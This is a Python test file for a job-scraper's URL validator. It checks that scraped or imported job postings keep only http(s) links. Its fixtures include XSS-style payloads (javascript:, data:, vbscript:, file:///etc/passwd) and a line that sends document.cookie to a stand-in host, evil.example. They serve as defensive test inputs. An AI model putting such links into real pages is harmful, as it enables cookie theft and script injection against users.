"""Only http(s) links are stored (issue 13, item 8, the storage side).

Lever/Ashby ``applyUrl``, an imported ``job_url_direct`` and ``company_url`` were stored as
``javascript:``/``data:`` URLs and rendered as hrefs. The posting model is the one boundary every
scraped or imported posting crosses: a link field that is not an http(s) URL becomes None, and a
posting whose ``job_url`` is not one is rejected with that reason.
"""

from __future__ import annotations

import copy
import csv
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from jobscraper.imports import RowError, open_postings
from jobscraper.posting import LINK_FIELDS, Posting, is_http_url
from jobscraper.sources.ats import detect_ats, parse_ashby, parse_lever
from jobscraper.store import SyncEngine, open_database
from tests.cli_inprocess import Cli

ATS = Path(__file__).resolve().parents[1] / "fixtures" / "ats"
HOSTILE_LINKS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/path",
    "https:javascript:alert(1)",
    "http://",
    "https://evil.example/\x00x",
]


def _load(name: str) -> Any:
    return json.loads((ATS / name).read_text(encoding="utf-8"))


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_a_hostile_link_is_not_a_url(link: str) -> None:
    assert not is_http_url(link)


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_link_fields_keep_only_http_urls(link: str) -> None:
    posting = Posting.model_validate(
        {"job_url": "https://x.example/1", "title": "T"} | dict.fromkeys(LINK_FIELDS, link)
    )
    for name in LINK_FIELDS:
        assert getattr(posting, name) is None, name


@pytest.mark.parametrize("link", HOSTILE_LINKS)
def test_a_posting_whose_job_url_is_not_http_is_rejected(link: str) -> None:
    with pytest.raises(ValueError, match="must be an http"):
        Posting.model_validate({"job_url": link, "title": "T"})


def test_ordinary_links_are_kept() -> None:
    posting = Posting.model_validate(
        {
            "job_url": "HTTPS://Jobs.Example/1?a=b#c",
            "title": "T",
            "company_url": "http://example.com",
            "job_url_direct": "https://apply.example/x y",
        }
    )
    assert posting.company_url == "http://example.com"
    assert posting.job_url_direct == "https://apply.example/x y"


def test_lever_apply_url_of_javascript_is_dropped_and_a_javascript_posting_url_is_skipped() -> None:
    payload = copy.deepcopy(_load("lever_postings.json"))
    payload[0]["applyUrl"] = "javascript:fetch('//evil.example/'+document.cookie)"
    payload[1]["hostedUrl"] = "javascript:alert(1)"
    board = detect_ats("https://jobs.lever.co/acme")
    assert board is not None

    parsed = parse_lever(board, payload)

    by_id = {p.id: p for p in parsed.postings}
    first = by_id[f"lv-{payload[0]['id']}"]
    assert first.job_url == payload[0]["hostedUrl"] and first.job_url_direct is None
    assert f"lv-{payload[1]['id']}" not in by_id
    assert any(payload[1]["id"] in s and "job_url" in s and "http" in s for s in parsed.skipped), (
        parsed.skipped
    )
    for posting in parsed.postings:
        assert all(getattr(posting, f) is None or is_http_url(getattr(posting, f)) for f in LINK_FIELDS)


def test_ashby_apply_url_of_data_is_dropped() -> None:
    payload = copy.deepcopy(_load("ashby_board.json"))
    payload["jobs"][0]["applyUrl"] = "data:text/html,<script>alert(1)</script>"
    board = detect_ats("https://jobs.ashbyhq.com/northwind")
    assert board is not None

    parsed = parse_ashby(board, payload)

    first = next(p for p in parsed.postings if p.id == f"ab-{payload['jobs'][0]['id']}")
    assert first.job_url_direct is None
    assert first.job_url == payload["jobs"][0]["jobUrl"]


def test_an_imported_csv_stores_no_hostile_link(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    columns = [
        "job_url",
        "title",
        "company",
        "job_url_direct",
        "company_url",
        "company_url_direct",
        "company_logo",
    ]
    rows = [
        ["https://x.example/1", "Kept", "Acme", *(["javascript:alert(1)"] * 4)],
        ["https://x.example/2", "Also kept", "Acme", "https://apply.example/2", "data:text/html,x", "", ""],
        ["javascript:alert(1)", "Rejected", "Acme", "", "", "", ""],
    ]
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(columns)
        writer.writerows(rows)

    items = [item for _line, item in open_postings(path)]
    assert isinstance(items[2], RowError) and "job_url" in items[2].reason

    db_path = tmp_path / "jobs.db"
    result = cli("import", path, "--db", db_path)
    assert result.code == 0, result.err

    database = open_database(db_path)
    try:
        SyncEngine(database)  # the store opens fine and holds exactly the two good rows
        with database.reader() as conn:
            stored = conn.execute(text(f"SELECT title, job_url, {', '.join(LINK_FIELDS)} FROM job")).all()
            sources = conn.execute(text("SELECT job_url, job_url_direct FROM job_source")).all()
    finally:
        database.dispose()
    assert sorted(r[0] for r in stored) == ["Also kept", "Kept"]
    for row in [*stored, *sources]:
        for value in row[1:] if len(row) > 2 else row:
            assert value is None or is_http_url(value), row
    assert ("Also kept", "https://x.example/2", "https://apply.example/2", None, None, None) in [
        tuple(r) for r in stored
    ]
